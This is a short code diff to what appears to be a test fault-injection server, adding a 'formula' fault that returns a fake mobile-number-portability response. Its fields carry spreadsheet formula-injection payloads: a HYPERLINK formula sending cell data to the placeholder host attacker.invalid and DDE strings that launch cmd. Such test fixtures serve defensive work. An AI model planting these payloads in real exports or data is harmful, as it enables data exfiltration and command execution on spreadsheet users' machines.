@@ -81,7 +81,22 @@ async def fault_response(
         return StreamingResponse(_huge(state.huge_bytes), media_type="application/json")
     if kind == "drop":
         return Dropped()
+    if kind == "formula":
+        return JSONResponse(FORMULA_ANSWER)
     return JSONResponse({"unexpected": True, "items": [1, 2, 3]})
+
+
+FORMULA_ANSWER = {
+    "code": "SUCCESS",
+    "message": "success",
+    "data": {
+        "transfer": "已携转",
+        "originalOperator": '=HYPERLINK("http://attacker.invalid/?d="&A1,"中国移动")',
+        "currentOperator": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "reason": "-2+3+cmd|' /C calc'!A0",
+    },
+}
+"""A china_mnp answer a spreadsheet would run (the `formula` fault)."""
 
 
 DROPPED = "ASGI callable returned without completing response."
